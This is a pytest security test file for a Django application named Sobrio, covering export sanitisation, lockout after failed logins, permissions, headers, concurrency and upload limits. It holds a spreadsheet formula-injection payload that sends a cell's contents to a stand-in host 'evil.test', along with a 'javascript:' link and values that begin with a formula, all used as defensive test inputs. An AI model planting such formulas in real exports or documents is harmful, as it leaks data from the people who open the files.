"""Issue 12: data that leaves Sobrio is safe, accounts are guarded, operations are sane."""

import io
import threading

import openpyxl
import pytest
from django.core import mail
from django.core.exceptions import ImproperlyConfigured
from django.db import connection
from django.urls import reverse

from sobrio.core.enums import Role
from sobrio.core.models import Membership
from tests.factories import (
    ActionFactory,
    AssetFactory,
    CampaignFactory,
    IndicatorFactory,
    InstitutionFactory,
    MembershipFactory,
    UserFactory,
)

EVIL = '=HYPERLINK("http://evil.test/?leak="&A2,"Cliquez ici")'


def _xlsx_cells(content):
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


def test_exports_never_write_a_live_formula(db, client):
    member = MembershipFactory(role=Role.ADMIN)
    institution = member.institution
    AssetFactory(institution=institution, name="=1+2", inventory_number="+cmd")
    ActionFactory(institution=institution, label=EVIL)
    campaign = CampaignFactory(institution=institution)
    campaign.answers.update(comment=EVIL)
    client.force_login(member.user)
    csv = b"".join(client.get(reverse("measure_assets_csv")).streaming_content).decode()
    assert ";'=1+2;" in csv and "'+cmd" in csv
    for url in (
        reverse("measure_assets_xlsx"),
        reverse("plan_export"),
        reverse("assess_campaign_xlsx", args=[campaign.pk]),
    ):
        cells = _xlsx_cells(client.get(url).content)
        formulas = [c.value for c in cells if c.data_type == "f"]
        assert not formulas, (url, formulas)
        assert any(str(c.value).startswith("'=") for c in cells), url


def test_a_referential_link_must_be_http_or_https():
    from sobrio.imports.problems import ImportFailure
    from sobrio.referentials import importers

    text = "code;famille;titre;url\nA.1;Gouvernance;Titre;javascript:alert(1)\n"
    with pytest.raises(ImportFailure) as failure:
        importers.read(text.encode(), "grille.csv")
    assert "http ou https" in str(failure.value)


def test_the_public_declaration_is_a_copy_frozen_when_published(db, client):
    from sobrio.assessment import services
    from sobrio.referentials import scales
    from tests.factories import ReferentialFactory

    institution = InstitutionFactory()
    referential = ReferentialFactory(institution=institution, scale=scales.RGESN)
    campaign = CampaignFactory(institution=institution, referential=referential)
    services.declaration_publish(campaign=campaign, published=True)
    campaign.answers.update(comment="NOTE INTERNE : serveur ENT non patché", status="non_valide")
    response = client.get(f"/declaration/{campaign.public_token}/")
    assert response.status_code == 200
    assert "NOTE INTERNE" not in response.content.decode()
    assert response["X-Robots-Tag"].startswith("noindex")
    assert '<meta name="robots" content="noindex' in response.content.decode()


def test_sixty_wrong_passwords_then_the_right_one_is_still_refused(db, client, caplog):
    user = UserFactory()
    MembershipFactory(user=user)
    for _ in range(6):
        client.post(reverse("login"), {"username": user.email, "password": "faux"})
    response = client.post(
        reverse("login"), {"username": user.email, "password": "correct-horse-battery"}
    )
    assert response.status_code == 429 or "Trop d" in response.content.decode()
    assert "_auth_user_id" not in client.session
    assert any("AXES" in r.getMessage() for r in caplog.records)


def test_a_member_without_a_password_gets_a_reset_link(db, client):
    from sobrio.core import services

    institution = InstitutionFactory()
    membership, created = services.member_add(
        institution=institution, email="sans@example.org", role=Role.VIEWER
    )
    assert created and not membership.user.has_usable_password()
    client.post(reverse("password_reset"), {"email": "sans@example.org"})
    assert len(mail.outbox) == 1 and "sans@example.org" in mail.outbox[0].to


def test_a_viewer_named_pilot_cannot_change_the_action(db, client):
    viewer = MembershipFactory(role=Role.VIEWER)
    action = ActionFactory(institution=viewer.institution, pilot=viewer)
    client.force_login(viewer.user)
    response = client.post(
        reverse("plan_action", args=[action.pk]), {"form": "status", "status": "done"}
    )
    assert response.status_code == 403
    action.refresh_from_db()
    assert action.status != "done"


def test_signed_in_pages_are_private_and_say_what_the_browser_may_use(db, client):
    member = MembershipFactory(role=Role.VIEWER)
    client.force_login(member.user)
    response = client.get(reverse("dashboard"))
    assert response["Cache-Control"] == "private, no-store"
    assert "camera=()" in response["Permissions-Policy"]


def test_gunicorn_does_not_announce_itself():
    import gunicorn.http.wsgi

    import sobrio.gunicorn_conf  # noqa: F401 - what `sobrio serve` loads

    assert gunicorn.http.wsgi.SERVER == "Sobrio"


def test_a_measurement_sent_twice_is_kept_once(db, client):
    officer = MembershipFactory(role=Role.OFFICER)
    indicator = IndicatorFactory(institution=officer.institution)
    client.force_login(officer.user)
    form = {"form": "measurement", "measured_on": "2026-06-30", "value": "12", "comment": ""}
    for _ in range(2):
        client.post(reverse("plan_indicator", args=[indicator.pk]), form)
    assert indicator.measurements.count() == 1


def test_an_import_leaves_one_journal_entry(db, client):
    from auditlog.models import LogEntry

    from tests.factories import ImportJobFactory

    officer = MembershipFactory(role=Role.OFFICER)
    job = ImportJobFactory(institution=officer.institution, created_by=officer.user)
    client.force_login(officer.user)
    client.post(
        reverse("measure_import_map", args=[job.pk]),
        {"action": "commit", "col_0": "numéro d'inventaire", "col_1": "catégorie"},
    )
    entry = LogEntry.objects.get(object_repr="parc.csv")
    assert entry.actor == officer.user and "created 1" in str(entry.changes)


def test_short_secret_keys_and_any_host_are_refused():
    from sobrio import env

    with pytest.raises(ImproperlyConfigured):
        env.secret_key(None, environ={"SOBRIO_SECRET_KEY": "trop-court"})
    with pytest.raises(ImproperlyConfigured):
        env.allowed_hosts(environ={"SOBRIO_ALLOWED_HOSTS": "*"})


@pytest.mark.django_db(transaction=True)
def test_two_admins_demoting_each_other_at_once_leave_an_admin():
    from django.core.exceptions import ValidationError
    from django.db import connections

    from sobrio.core import services

    institution = InstitutionFactory()
    a = MembershipFactory(institution=institution, role=Role.ADMIN)
    b = MembershipFactory(institution=institution, role=Role.ADMIN)
    barrier, errors = threading.Barrier(2), []

    def demote(target):
        try:
            barrier.wait()
            services.member_update(
                membership=Membership.objects.get(pk=target.pk), role=Role.VIEWER
            )
        except ValidationError:
            errors.append("refused")
        finally:
            connections.close_all()  # this thread's connection, or the database stays busy

    threads = [threading.Thread(target=demote, args=(m,)) for m in (a, b)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert Membership.objects.filter(institution=institution, role=Role.ADMIN).count() >= 1
    if connection.vendor == "postgresql" or errors:
        assert errors == ["refused"]


@pytest.mark.django_db(transaction=True)
def test_fifty_reports_created_at_once_get_fifty_versions():
    from django.db import connections

    from sobrio.reports import services
    from sobrio.reports.models import Kind, Report

    institution = InstitutionFactory()
    failures = []

    def make():
        try:
            services.create(institution, Kind.QUARTERLY, "2026-T3")
        except Exception as error:  # noqa: BLE001 - the test counts them
            failures.append(repr(error))
        finally:
            connections.close_all()  # this thread's connection, or the database stays busy

    threads = [
        threading.Thread(target=make)
        for _ in range(50 if connection.vendor == "postgresql" else 10)
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    versions = sorted(
        Report.objects.filter(institution=institution).values_list("version", flat=True)
    )
    assert not failures, failures[:3]
    assert versions == list(range(1, len(threads) + 1))


def test_a_busy_database_is_a_503_that_says_to_retry(rf):
    from django.db.utils import OperationalError

    from sobrio.core.middleware import BusyDatabaseMiddleware

    request = rf.post("/")
    request.user = UserFactory.build()
    response = BusyDatabaseMiddleware(lambda r: None).process_exception(
        request, OperationalError("database is locked")
    )
    assert response.status_code == 503 and response["Retry-After"]


def test_an_upload_larger_than_the_limit_is_refused_before_it_is_read(db, client, settings):
    settings.UPLOAD_MAX_BYTES = 1000
    member = MembershipFactory(role=Role.OFFICER)
    client.force_login(member.user)
    response = client.post(reverse("measure_import"), {"file": io.BytesIO(b"x" * 5000)})
    assert response.status_code == 413 and "SOBRIO_IMPORT_MAX_MB" in response.content.decode()


def test_form_uploads_check_their_declared_size_first(db):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from sobrio.assessment.forms import AnswersImportForm

    class Huge(SimpleUploadedFile):
        def read(self, *args):
            raise AssertionError("read before its size was checked")

    huge = Huge("r.csv", b"x")
    huge.size = 1 << 30  # 1 GB declared: refused before anything reads it
    form = AnswersImportForm(files={"file": huge})
    assert not form.is_valid() and "trop gros" in str(form.errors)


def test_routes_open_to_anyone_take_small_bodies_only(db, client, settings):
    """Issue 26: /badges/verifier/ spooled 200 MB bodies to disk for anyone."""
    big = io.BytesIO(b"x" * (settings.PUBLIC_UPLOAD_MAX_BYTES + 1))
    response = client.post(reverse("badge_check"), {"file": big})
    assert response.status_code == 413 and "sur cette page" in response.content.decode()
    signin = client.post("/compte/connexion/", {"username": "x" * 100, "password": "y"})
    assert signin.status_code == 200  # small bodies pass as before
    member = MembershipFactory(role=Role.OFFICER)
    client.force_login(member.user)
    same = io.BytesIO(b"x" * (settings.PUBLIC_UPLOAD_MAX_BYTES + 1))
    team = client.post(reverse("measure_import"), {"file": same})
    assert team.status_code != 413  # the team's import keeps its own, larger limit
